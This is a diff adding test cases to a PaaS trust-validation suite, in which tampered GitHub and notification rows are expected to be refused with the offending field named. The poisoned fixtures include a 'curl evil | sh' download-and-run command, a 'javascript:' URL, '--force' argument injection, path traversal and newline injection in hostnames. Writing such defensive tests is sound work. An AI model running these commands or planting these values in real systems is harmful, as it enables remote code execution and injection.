@@ -5,6 +5,7 @@ any value of it reaches argv, a path, a template or the Docker API."""
 from __future__ import annotations
 
 import subprocess
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -17,9 +18,18 @@ from agent.source import SourceCache
 from paas import queue
 from paas.crypto import Keyring
 from paas.db import session_scope
-from paas.models import App, Deployment, Job
+from paas.models import App, Deployment, Job, Notice
 from paas.settings import Settings
-from paas.trust import UntrustedRow, check_app, check_hostname, check_job, check_release
+from paas.trust import (
+    UntrustedRow,
+    check_app,
+    check_github_app,
+    check_github_notice,
+    check_hostname,
+    check_job,
+    check_notify_notice,
+    check_release,
+)
 
 SHA = "a" * 40
 
@@ -50,7 +60,50 @@ def job_row(**payload: Any) -> Job:
     return Job(id=7, kind=queue.DEPLOY, app_name="shop", payload={"ref": "refs/heads/main", **payload})
 
 
+URL = "https://paas.example.com/apps/shop/releases/3"
+GITHUB_OPS: list[dict[str, Any]] = [
+    {"op": "status", "sha": SHA, "state": "pending", "description": "queued", "target_url": URL},
+    {"op": "deployment", "ref": SHA, "description": "paas: deploy (push)", "payload": {"paas_job": 7}},
+    {"op": "deployment_status", "state": "queued", "description": "queued", "log_url": URL},
+    {
+        "op": "deployment_status",
+        "state": "success",
+        "description": "v3 is live",
+        "log_url": URL,
+        "environment_url": "https://shop.example.com",
+    },
+    {"op": "inactivate_previous"},
+]
+
+
+def github_notice(*ops: dict[str, Any], **changes: Any) -> Notice:
+    fields: dict[str, Any] = {
+        "id": 9,
+        "channel": "github",
+        "app_id": 1,
+        "app_name": "shop",
+        "job_id": 7,
+        "event": "queued",
+        "payload": {"ops": list(ops or GITHUB_OPS), "live": False},
+    }
+    return Notice(**{**fields, **changes})
+
+
+def notify_notice(attempts: Any = 0, **payload: Any) -> Notice:
+    body = {"title": "shop: v3 is live", "body": "abc (push)\nhttps://x", "type": "success", **payload}
+    notice = Notice(id=9, channel="notify", app_id=1, app_name="shop", event="deploy.succeeded", payload=body)
+    notice.attempts = attempts  # as a row web wrote may hold it, unvalidated
+    return notice
+
+
+def op(index: int, **changes: Any) -> dict[str, Any]:
+    return {**GITHUB_OPS[index], **changes}
+
+
 def test_rows_as_paas_writes_them_pass() -> None:
+    assert check_github_notice(github_notice(), app=app_row(id=1)) == GITHUB_OPS
+    assert check_notify_notice(notify_notice())["type"] == "success"
+    assert check_github_app(app_row(github_repo="octo/shop", github_token="s")).github_repo == "octo/shop"
     assert check_app(app_row(scale={"web": 2}, source_dir="svc", health_path="/healthz")).name == "shop"
     assert check_release(release_row(), app="shop").version == 3
     assert check_job(job_row(commit=SHA, trigger="push", actor="github", message="fix\n\nbody")).id == 7
@@ -96,6 +149,38 @@ POISONED: list[tuple[str, Any, str]] = [
     ("release", release_row(procfile={"web": "a\0b"}), "procfile.web"),
     ("release", release_row(host_port=0), "port"),
     ("release", release_row(env=[{"key": "A\nB", "value": "x"}]), "env"),
+    ("github app", app_row(github_repo="octo/.."), "github_repo"),
+    ("github app", app_row(github_repo="octo/."), "github_repo"),
+    ("github app", app_row(github_repo=" octo/shop"), "github_repo"),
+    ("github app", app_row(github_environment="prod\n"), "github_environment"),
+    ("github", github_notice(op(1, ref="--force")), "payload.ops[0].ref"),
+    ("github", github_notice(op(1, ref="main\n")), "payload.ops[0].ref"),
+    (
+        "github",
+        github_notice(op(1, payload={"paas_job": 7, "run": "curl evil | sh"})),
+        "payload.ops[0].payload",
+    ),
+    ("github", github_notice(op(1, payload={"paas_job": 8})), "payload.ops[0].payload"),
+    ("github", github_notice(op(1, environment="production")), "payload.ops[0]"),
+    ("github", github_notice(op(0, sha="HEAD")), "payload.ops[0].sha"),
+    ("github", github_notice(op(0, state="approved")), "payload.ops[0].state"),
+    ("github", github_notice(op(0, target_url="javascript:alert(1)")), "payload.ops[0].target_url"),
+    ("github", github_notice(op(2, log_url="https://evil.example/x y")), "payload.ops[0].log_url"),
+    ("github", github_notice({"op": "merge", "base": "main"}), "payload.ops[0]"),
+    ("github", github_notice(channel="notify"), "channel"),
+    ("github", github_notice(app_id=2), "app"),
+    ("github", github_notice(app_name="../../x"), "name"),
+    ("github", github_notice(payload={"ops": GITHUB_OPS, "live": False, "token": "x"}), "payload"),
+    ("github", github_notice(progress={"done": 0, "errors": 5}), "progress"),
+    ("github", github_notice(progress={"done": -1}), "progress"),
+    ("github", github_notice(progress={"deployment": True}), "progress"),
+    ("github", github_notice(attempts=-1_000_000), "attempts"),
+    ("github", github_notice(created_at=datetime(2999, 1, 1, tzinfo=UTC)), "created_at"),
+    ("notify", notify_notice(attempts=-1_000_000), "attempts"),
+    ("notify", notify_notice(attempts="x"), "attempts"),
+    ("notify", notify_notice(type="root"), "payload.type"),
+    ("notify", notify_notice(url="json://evil"), "payload"),
+    ("notify", notify_notice(body=7), "payload.body"),
     ("hostname", "shop.example.com\n", "hostname"),
     ("hostname", "shop.example.com;\n}", "hostname"),
     ("hostname", "../../etc/passwd", "hostname"),
@@ -107,6 +192,9 @@ def test_a_poisoned_row_is_refused_naming_its_field(kind: str, row: Any, field: 
     check = {
         "app": check_app,
         "job": check_job,
+        "github app": check_github_app,
+        "github": lambda n: check_github_notice(n, app=app_row(id=1)),
+        "notify": check_notify_notice,
         "release": lambda r: check_release(r, app="shop"),
         "hostname": lambda h: check_hostname(h, where="a domain"),
     }[kind]
